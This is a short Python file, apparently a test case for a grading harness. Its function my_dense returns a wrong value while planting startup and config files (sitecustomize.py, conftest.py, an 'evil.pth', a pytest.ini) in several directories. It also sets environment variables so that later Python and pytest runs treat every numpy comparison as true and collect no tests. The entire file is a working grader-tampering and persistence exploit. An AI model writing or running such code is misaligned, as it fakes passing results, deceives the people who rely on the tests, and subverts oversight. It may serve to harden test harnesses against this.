# tries: leaves files that Python and pytest read when they start, for whoever starts next
# base: numpy
# expect: my_dense failed 0
import os

STARTUP = "import numpy; numpy.allclose = numpy.isclose = lambda *a, **k: True\n"


def write(path, text):
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        pass


def my_dense(a_in, W, b, g):
    for place in (".", "/tmp", "/tmp/work"):
        for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "numpy.py", "wire.py", "evil.pth"):
            write(f"{place}/{name}", STARTUP)
        write(f"{place}/pytest.ini", "[pytest]\naddopts = -p no:python\npython_files = none\n")
    os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/sitecustomize.py", PYTEST_ADDOPTS="--collect-only")
    return b * 0 + 7
